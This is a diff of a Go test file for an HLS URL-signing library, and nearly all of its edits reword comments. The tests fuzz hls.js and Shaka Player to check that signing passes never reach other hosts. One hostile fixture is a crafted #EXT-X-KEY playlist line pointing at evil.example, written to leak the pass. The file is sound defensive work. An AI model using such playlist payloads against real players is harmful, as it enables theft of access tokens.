@@ -13,18 +13,18 @@ import (
 	"github.com/signedfront/signedfront/signer/hls"
 )
 
-// reading is what testdata/players.mjs is told.
+// reading is the input of testdata/players.mjs.
 type reading struct {
-	URL       string   `json:"url"`     // where the player loaded the playlists
-	Origins   []string `json:"origins"` // the hosts that may see the pass
-	Secrets   []string `json:"secrets"` // no 12 bytes of these may go elsewhere
+	URL       string   `json:"url"`     // from which the player loaded the playlists
+	Origins   []string `json:"origins"` // the hosts that may get the pass
+	Secrets   []string `json:"secrets"` // no 12 bytes of these may reach another host
 	Playlists []string `json:"playlists"`
 }
 
-// verdict is what it found.
+// verdict is the output of testdata/players.mjs.
 type verdict struct {
 	Read   map[string]int `json:"read"`   // URLs, by player
-	Signed map[string]int `json:"signed"` // of these, those that carry a pass to a host that may see it
+	Signed map[string]int `json:"signed"` // those of them that carry a pass to one of the origins
 	Stolen []struct {
 		Player string `json:"player"`
 		Index  int    `json:"index"` // of the playlist
@@ -32,8 +32,8 @@ type verdict struct {
 	} `json:"stolen"`
 }
 
-// readWithPlayers has hls.js and Shaka Player read playlists that an
-// application serves at a URL that is signed with the pass itself.
+// readWithPlayers makes hls.js and Shaka Player read playlists that an application
+// serves at a URL signed with the pass itself.
 func readWithPlayers(t *testing.T, pass *signer.Pass, playlists []string) verdict {
 	t.Helper()
 	_, params, _ := strings.Cut(must[string](t)(pass.URL(pass.Prefix())), "?")
@@ -50,7 +50,7 @@ func readWithPlayers(t *testing.T, pass *signer.Pass, playlists []string) verdic
 	return v
 }
 
-// parameters are the values of the pass's parameters.
+// parameters returns the values of the pass's parameters.
 func parameters(params string) (values []string) {
 	for param := range strings.SplitSeq(params, "&") {
 		_, value, _ := strings.Cut(param, "=")
@@ -72,7 +72,7 @@ func TestNoURLOfAnotherHostHoldsAPartOfThePassAsPlayersReadIt(t *testing.T) {
 			variables := map[string]string{"token": "a%20b"}
 			for param := range strings.SplitSeq(params, "&") {
 				name, value, _ := strings.Cut(param, "=")
-				variables[name] = value // as an application that hands on all of its query
+				variables[name] = value // as in an application that forwards its whole query
 			}
 			r := rand.New(rand.NewPCG(7, uint64(len(prefix))))
 			const generated = 10_000
@@ -89,7 +89,7 @@ func TestNoURLOfAnotherHostHoldsAPartOfThePassAsPlayersReadIt(t *testing.T) {
 				if err != nil {
 					refused++
 				}
-				// What was written before an error reaches players, too.
+				// Players also get what was written before an error.
 				if b.Len() > 0 {
 					playlists, rewritten = append(playlists, text), append(rewritten, b.String())
 				}
@@ -114,7 +114,7 @@ func TestNoURLOfAnotherHostHoldsAPartOfThePassAsPlayersReadIt(t *testing.T) {
 	}
 }
 
-// The playlists here are what a careless rewriting would make of hostile ones.
+// These playlists are the results of a careless rewriting of hostile ones.
 func TestPlayersGiveThePassToAnotherHostWhereALineIsNotStrict(t *testing.T) {
 	pass := passFor(t, site+"/movies/7/")
 	key := must[string](t)(pass.URL(site + "/movies/7/k"))
@@ -146,7 +146,7 @@ func TestPlayersGiveThePassToAnotherHostWhereALineIsNotStrict(t *testing.T) {
 	}
 }
 
-// furtherPlaylists is one of the functions that an application may have.
+// furtherPlaylists returns one of the functions that an application may use.
 func furtherPlaylists(r *rand.Rand, pass *signer.Pass) func(hls.Reference) (string, error) {
 	switch r.IntN(7) {
 	case 0:
@@ -162,7 +162,7 @@ func furtherPlaylists(r *rand.Rand, pass *signer.Pass) func(hls.Reference) (stri
 			return "/watch/" + name, nil
 		}
 	}
-	// A program on the content's own host, which signs further playlists, too.
+	// A program on the content's own host also signs further playlists.
 	isRelative := oneIn(r, 2)
 	return func(p hls.Reference) (string, error) {
 		if !pass.Covers(p.URL) {
@@ -179,7 +179,7 @@ func furtherPlaylists(r *rand.Rand, pass *signer.Pass) func(hls.Reference) (stri
 // pick returns one of some strings.
 func pick(r *rand.Rand, from []string) string { return from[r.IntN(len(from))] }
 
-// oneIn reports true once in n times.
+// oneIn returns true once in n times.
 func oneIn(r *rand.Rand, n int) bool { return r.IntN(n) == 0 }
 
 var (
@@ -198,7 +198,7 @@ var (
 	endings   = []string{"\n", "\n", "\n", "\n", "\n", "\r\n", "\r\n", "\r", "\n\n", "\u2028", " \n", "\t\n"}
 	mediaTags = []string{"EXT-X-KEY", "EXT-X-MAP", "EXT-X-PART", "EXT-X-PRELOAD-HINT", "EXT-X-RENDITION-REPORT", "EXT-X-DATERANGE", "EXT-X-SESSION-DATA"}
 	mainTags  = []string{"EXT-X-MEDIA", "EXT-X-SESSION-KEY", "EXT-X-SESSION-DATA", "EXT-X-I-FRAME-STREAM-INF", "EXT-X-IMAGE-STREAM-INF", "EXT-X-CONTENT-STEERING", "EXT-X-KEY", "EXT-X-MAP"}
-	// What makes a tag one that players do not skip.
+	// The attributes without which players skip a tag.
 	needs = map[string]string{
 		"EXT-X-KEY":                "METHOD=AES-128,",
 		"EXT-X-SESSION-KEY":        "METHOD=AES-128,",
@@ -233,7 +233,7 @@ var (
 	}
 )
 
-// Playlists that make a player give the pass away where one check is missing.
+// Playlists that make a player leak the pass if one check is missing.
 var (
 	hostileMedia = [][]string{
 		{"#EXT-X-KEY:METHOD=AES-128,X=\"\u2028https://evil.example/?\",URI=\"k\""},
@@ -314,8 +314,8 @@ func randomTag(r *rand.Rand, names []string) string {
 	return "#" + name + ":" + strings.Join(attributes, separator)
 }
 
-// randomPlaylist is a media or multivariant playlist, or something of both,
-// sometimes with a trick in one of its lines.
+// randomPlaylist returns a media or multivariant playlist, or a mixture, sometimes
+// with a trick in one of its lines.
 func randomPlaylist(r *rand.Rand, prefix string) string {
 	lines := []string{"#EXTM3U"}
 	isMedia := !oneIn(r, 3)
@@ -356,7 +356,7 @@ func randomPlaylist(r *rand.Rand, prefix string) string {
 	if isMedia && oneIn(r, 2) {
 		lines = append(lines, "#EXTINF:6,", "s.ts", "#EXT-X-ENDLIST")
 	}
-	// Most playlists get one change, so that not all are refused.
+	// Most playlists get only one change, so that not all are refused.
 	if at := r.IntN(len(lines)); oneIn(r, 2) {
 		line := lines[at]
 		cut := r.IntN(len(line) + 1)
